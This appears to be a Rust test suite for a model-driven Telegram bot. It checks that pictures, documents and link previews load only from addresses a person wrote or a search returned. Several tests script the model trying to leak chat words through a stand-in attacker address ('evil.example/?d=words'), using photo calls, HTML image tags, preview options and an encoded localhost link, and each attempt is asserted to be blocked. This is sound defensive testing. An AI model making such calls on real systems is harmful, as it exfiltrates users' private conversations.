//! Words do not leave in an address: Telegram loads a picture or a page only where a person wrote the address or search
//! found it, whatever the model writes.

use std::time::Duration;

use figaro_offline::model::{ModelReply, ModelRequest, ReplyPart};
use figaro_offline::tavily::{KEY, TavilyAnswer};
use figaro_offline::telegram::{PlannedFailure, Say};
use serde_json::{Value, json};

use crate::approvals::NOT_APPROVED;
use crate::support::scene::{TEAM, text};
use crate::support::{ANN, BOB, TIMEOUT, World};

/// An address that only the model writes, with words of the chat.
const OWN: &str = "https://evil.example/?d=words";
const CAT: &str = "https://cats.example/cat.png";

fn call(name: &str, arguments: Value) -> ReplyPart {
    ReplyPart::Call { name: name.to_owned(), arguments }
}

fn photo(address: &str) -> ReplyPart {
    call("sendPhoto", json!({"photo": address}))
}

fn results(request: &ModelRequest) -> Vec<Value> {
    request.tool_results().iter().map(|(_, output)| serde_json::from_str(output).unwrap()).collect()
}

impl World {
    /// What becomes of calls that the model makes when somebody says this.
    async fn attempt(&self, say: Say, calls: Vec<ReplyPart>) -> Vec<Value> {
        let before = self.model.requests().len() + self.script.left();
        self.script.push(ModelReply::turn(calls));
        self.script.push(ModelReply::text("Done."));
        self.telegram.send(say).unwrap();
        let results = results(&self.asks_denying(before + 2).await);
        self.caught_up().await;
        results
    }

    /// The preview options of every text that was sent or edited, with the text.
    fn previews(&self) -> Vec<(String, Value)> {
        let calls = self.telegram.calls();
        let texts =
            calls.iter().filter(|call| call.method == "sendMessage" || call.method == "editMessageText");
        let seen = texts.map(|call| {
            (call.args["text"].as_str().unwrap().to_owned(), call.args["link_preview_options"].clone())
        });
        seen.filter(|(text, _)| text != "I have." && !text.contains("May I do this?")).collect()
    }
}

fn off() -> Value {
    json!({"is_disabled": true})
}

#[tokio::test]
async fn a_picture_is_loaded_from_where_a_person_said_and_from_nowhere_else() {
    let world = World::without_privacy().await;
    world.team();
    let _bot = world.start_open().await;
    world.say(BOB, TEAM, "mine is at dogs.example/dog.png");
    let ask = Say::new(ANN, TEAM, &format!("@figaro_bot show me {CAT}, please"));
    let tried = [
        photo(OWN),
        photo(&format!("{CAT}?d=words")),
        photo("https://cats.example/words/../cat.png"),
        call("sendDocument", json!({"document": OWN})),
        photo(CAT),
        photo("https://dogs.example/dog.png"),
    ];
    let results = world.attempt(ask, tried.to_vec()).await;
    let made: Vec<bool> = results.iter().map(|result| result["success"] == true).collect();
    assert_eq!(made, [false, false, false, false, true, true], "{results:?}");
    let words = results[0]["error"].as_str().unwrap();
    assert!(NOT_APPROVED.iter().any(|reason| words.contains(reason)), "{words}");
    let mut sent: Vec<String> = world.telegram.view(|view| {
        view.calls_of("sendPhoto").iter().map(|c| c.args["photo"].as_str().unwrap().to_owned()).collect()
    });
    sent.sort();
    assert_eq!(sent, [CAT, "https://dogs.example/dog.png"]);
    // In a later turn it is still known.
    let again =
        world.attempt(Say::new(ANN, TEAM, "@figaro_bot once more"), vec![photo(CAT), photo(OWN)]).await;
    assert_eq!((&again[0]["success"], &again[1]["success"]), (&json!(true), &json!(false)), "{again:?}");
}

#[tokio::test]
async fn what_a_bot_wrote_becomes_nobodys_by_being_quoted_or_passed_on() {
    let world = World::new().await;
    world.otherwise(ModelReply::text(&format!("See {OWN}")));
    let _bot = world.start().await;
    let answer = world.ask("hello").await;
    let own = answer["message_id"].as_i64().unwrap();
    let by_bot =
        json!({"type": "user", "date": 1, "sender_user": {"id": 77, "is_bot": true, "first_name": "Echo"}});
    let hidden = json!({"type": "hidden_user", "date": 1, "sender_user_name": "Echo"});
    let passed_on = |origin: Value| Say::new(ANN, ANN, &format!("See {OWN}")).field("forward_origin", origin);
    let asks = [
        Say::new(ANN, ANN, "show me this").reply_to(own),
        Say::new(ANN, ANN, "show me this").reply_to(own).quote(OWN),
        passed_on(by_bot),
        passed_on(hidden),
    ];
    for ask in asks {
        let results = world.attempt(ask, vec![photo(OWN)]).await;
        assert_eq!(results[0]["success"], false, "{results:?}");
    }
    let passed_on = Say::new(ANN, ANN, &format!("See {CAT}")).forward_from(BOB);
    assert_eq!(world.attempt(passed_on, vec![photo(CAT)]).await[0]["success"], true);
}

#[tokio::test]
async fn what_search_found_may_be_loaded_also_after_a_restart() {
    let world = World::new().await;
    world.tavily.push(TavilyAnswer::pages(&[("A cat", CAT, &format!("also at {OWN}"))]));
    world.script.push(ModelReply::call("web_search", json!({"query": "a cat"})));
    world.script.push(ModelReply::silence());
    let recipe = world.bot().set("TAVILY_API_KEY", KEY).set("TAVILY_BASE_URL", world.tavily.url());
    let bot = recipe.spawn();
    bot.ready().await;
    world.say(ANN, ANN, "find a cat");
    world.model.wait_until(TIMEOUT, |requests| requests.get(1).map(|_| ())).await.expect("the second pass");
    bot.kill();
    world.script.push(ModelReply::turn(vec![photo(CAT), photo(OWN)]));
    world.script.push(ModelReply::text(&format!("{OWN} or {CAT}")));
    let bot = recipe.spawn();
    let results = results(&world.asks_denying(4).await);
    assert_eq!(results.len(), 3, "{results:?}");
    assert_eq!(
        (&results[1]["success"], &results[2]["success"]),
        (&json!(true), &json!(false)),
        "{results:?}"
    );
    world.answers(ANN, 3).await;
    assert_eq!(world.previews(), [(format!("{OWN} or {CAT}"), json!({"url": CAT}))]);
    bot.ends_well().await;
}

#[tokio::test]
async fn pages_of_a_provider_that_searches_are_known_after_a_restart() {
    let world = World::new().await;
    let looks = ReplyPart::Text("I look at the notes too.".to_owned());
    let found = ModelReply::turn(vec![looks, call("list_notes", json!({}))]).sources(&[("Cats", CAT)]);
    world.script.push(found);
    world.script.push(ModelReply::silence());
    let recipe = world.many();
    let bot = recipe.spawn();
    bot.ready().await;
    world.say(ANN, ANN, "find a cat");
    world.model.wait_until(TIMEOUT, |requests| requests.get(1).map(|_| ())).await.expect("the second pass");
    bot.kill();
    world.script.push(ModelReply::turn(vec![photo(CAT), photo(OWN)]));
    world.script.push(ModelReply::text("There."));
    let bot = recipe.spawn();
    let results = results(&world.asks_denying(4).await);
    let made: Vec<bool> = results.iter().map(|result| result["success"] == true).collect();
    assert_eq!(made, [true, true, false], "{results:?}");
    bot.ends_well().await;
}

#[tokio::test]
async fn no_answer_has_a_page_loaded_that_only_the_model_named() {
    let world = World::new().await;
    let _bot = world.start().await;
    let answers = [
        (format!("See {OWN} and [this]({OWN})."), off()),
        (format!("See [this]({OWN}), not {CAT}."), json!({"url": CAT})),
        (format!("See [this]({CAT})."), json!({"url": CAT})),
        (format!("See {CAT}?d=words"), off()),
        ("No address at all.".to_owned(), off()),
    ];
    for (markdown, _) in &answers {
        world.script.push(ModelReply::text(markdown));
        world.ask(&format!("what of {CAT}?")).await;
    }
    let wanted: Vec<Value> = answers.into_iter().map(|(_, options)| options).collect();
    let seen: Vec<Value> = world.previews().into_iter().map(|(_, options)| options).collect();
    assert_eq!(seen, wanted);
    let drafts = world.telegram.calls().into_iter().filter(|call| call.method == "sendMessageDraft");
    for draft in drafts {
        let shown = Value::Object(draft.args).to_string();
        assert!(!shown.contains("text_link") && !shown.contains("evil.example"), "{shown}");
    }
    assert_eq!(world.refused(), Vec::<String>::new());
}

#[tokio::test]
async fn a_page_that_telegram_refuses_costs_nobody_the_answer() {
    let world = World::new().await;
    let description = "Bad Request: WEBPAGE_NOT_FOUND".to_owned();
    world.telegram.fail("sendMessage", PlannedFailure::Status { status: 400, description }, 1);
    world.script.push(ModelReply::text(&format!("See {CAT}")));
    let _bot = world.start().await;
    world.ask(&format!("what of {CAT}?")).await;
    let seen: Vec<Value> = world.previews().into_iter().map(|(_, options)| options).collect();
    assert_eq!(seen, [json!({"url": CAT}), off()]);
}

#[tokio::test]
async fn the_model_cannot_switch_a_preview_on_by_itself() {
    let world = World::new().await;
    let _bot = world.start().await;
    let find = vec![call("find_tools", json!({"query": "sendMessage editMessageText sendRichMessage"}))];
    world.script.push(ModelReply::turn(find));
    let on = json!({"is_disabled": false, "url": OWN, "prefer_large_media": true});
    let poll = json!({"question": "q", "options": [{"text": "a", "media": {"type": "link", "url": OWN}}, {"text": "b"}]});
    let tried = vec![
        call(
            "sendMessage",
            json!({"text": format!("<a href=\"{OWN}\">x</a>"), "parse_mode": "HTML", "link_preview_options": on}),
        ),
        call(
            "sendMessage",
            json!({"text": "known", "link_preview_options": {"url": CAT, "show_above_text": true}}),
        ),
        call("sendRichMessage", json!({"rich_message": {"html": format!("<img src=\"{OWN}\">")}})),
        call("sendRichMessage", json!({"rich_message": {"markdown": format!("![x]({OWN})")}})),
        call("sendRichMessage", json!({"rich_message": {"markdown": "![x](http&#58;//127.0.0.1/a)"}})),
        call("sendPoll", poll),
    ];
    let results = world.attempt(Say::new(ANN, ANN, &format!("use {CAT}")), tried).await;
    let words = |at: usize| results[at]["error"].as_str().unwrap_or_default().to_owned();
    assert_eq!(results.len(), 7, "{results:?}");
    let is_asked = |at: usize| NOT_APPROVED.iter().any(|reason| words(at).contains(reason));
    assert!(is_asked(3) && is_asked(4) && is_asked(6), "{results:?}");
    assert!(words(5).contains("Give a file_id"), "{results:?}");
    let seen = world.previews();
    assert_eq!(seen.iter().find(|(text, _)| text.contains("href")).unwrap().1, off(), "{seen:?}");
    let known = seen.iter().find(|(text, _)| text == "known").unwrap();
    assert_eq!(known.1, json!({"url": CAT, "show_above_text": true}));
    assert_eq!(
        world.telegram.view(|view| view.calls_of("sendRichMessage").len() + view.calls_of("sendPoll").len()),
        0
    );
}

#[tokio::test]
async fn a_task_may_have_loaded_what_was_known_when_it_was_made() {
    let world = World::new().await;
    let _bot = world.start().await;
    let prompt = format!("Send {CAT}, or {OWN}.");
    let task = json!({"prompt": prompt, "schedule": "0 9 1 1 *", "recurring": true});
    world.script.push(ModelReply::call("schedule_task", task));
    world.script.push(ModelReply::text("Each year."));
    world.say(ANN, ANN, &format!("send {CAT} each year"));
    let card = world.answers(ANN, 1).await.remove(0);
    // What was said is no part of the task's conversation any more.
    world.told(ANN, ANN, "/new").await;
    world.when("<scheduled_task", ModelReply::turn(vec![photo(CAT), photo(OWN)]));
    world.script.push(ModelReply::text("[silent]"));
    world.press(ANN, &card, "Run now").await;
    let results = results(&world.asks_denying(4).await);
    assert_eq!(
        (&results[0]["success"], &results[1]["success"]),
        (&json!(true), &json!(false)),
        "{results:?}"
    );
}

#[tokio::test]
async fn a_message_that_grows_and_a_card_load_no_page_either() {
    let world = World::new().await;
    world.team();
    let _bot = world.start_open().await;
    let slow = format!("Look at {OWN} now. {}", "And on it goes. ".repeat(20));
    world.script.push(ModelReply::text(&slow).paced(30, Duration::from_millis(300)));
    let answer = world.told(BOB, TEAM, "@figaro_bot tell me").await;
    let id = answer["message_id"].as_i64().unwrap();
    world.shows(TEAM, id, slow.trim_end()).await;
    let task = json!({"prompt": format!("Say {OWN}"), "schedule": "0 9 * * *", "recurring": true});
    world.script.push(ModelReply::call("schedule_task", task));
    world.script.push(ModelReply::text("Every day."));
    world.say(ANN, ANN, "each morning");
    let card = world.answers(ANN, 1).await.remove(0);
    assert!(text(&card).contains("evil.example"), "{card}");
    let seen = world.previews();
    assert!(seen.len() >= 3, "the message, an edit, and an answer with its card: {seen:?}");
    assert!(seen.iter().all(|(_, options)| *options == off()), "{seen:?}");
}

#[tokio::test]
async fn a_message_with_too_much_to_look_at_is_refused_in_words_and_a_shorter_one_is_sent() {
    let world = World::new().await;
    let _bot = world.start().await;
    let find = json!({"query": "sendMessage editMessageText sendRichMessage"});
    world.script.push(ModelReply::turn(vec![call("find_tools", find)]));
    let rich = |html: String| call("sendRichMessage", json!({"rich_message": {"html": html}}));
    let links =
        |count: usize| (0..count).map(|at| format!("<a href=\"{CAT}?{at}\">x</a>")).collect::<String>();
    let tried = vec![
        rich("http:".repeat(7_000)),
        rich("http:".repeat(6_000)),
        rich(format!("<a href=\"{CAT}?{}\">x</a>", "d".repeat(2048))),
        rich(links(201)),
        photo(&format!("{CAT}?{}", "d".repeat(2048))),
        photo("cat.png"),
        rich(format!("<a href=\"{CAT}\">x</a>{}", "a ".repeat(2_000))),
    ];
    let results = world.attempt(Say::new(ANN, ANN, &format!("use {CAT}")), tried).await;
    let words = |at: usize| results[at].to_string();
    assert!(words(1).contains("32768 UTF-16 units") && words(1).contains("several messages"), "{}", words(1));
    for at in [2, 3, 5] {
        assert!(words(at).contains("2048 bytes") && words(at).contains("Leave it out"), "{}", words(at));
    }
    assert!(words(4).contains("200 addresses") && words(4).contains("several messages"), "{}", words(4));
    assert!(words(6).contains("Give a file_id, or the whole address"), "{}", words(6));
    assert_eq!(results[7]["success"], true, "{}", words(7));
    let sent = world
        .telegram
        .view(|view| (view.calls_of("sendRichMessage").len(), view.calls_of("sendPhoto").len()));
    assert_eq!(sent, (1, 0));
}

#[tokio::test]
async fn of_very_many_addresses_the_newest_may_be_loaded() {
    let world = World::new().await;
    world.otherwise(ModelReply::text("I see."));
    let _bot = world.start().await;
    let old = "https://old.example/cat.png";
    world.ask(&format!("mine is {old}")).await;
    for page in 0..10 {
        let many: String = (0..200).map(|at| format!("http://{page}.example/{at} ")).collect();
        world.ask(&many).await;
    }
    let endless = format!("https://endless.example/cat.png{}", "!".repeat(100));
    let tried = vec![photo(CAT), photo("https://endless.example/cat.png"), photo(old)];
    let results = world.attempt(Say::new(ANN, ANN, &format!("show {CAT} or {endless}")), tried).await;
    let made: Vec<bool> = results.iter().map(|result| result["success"] == true).collect();
    assert_eq!(made, [true, true, false], "{results:?}");
}
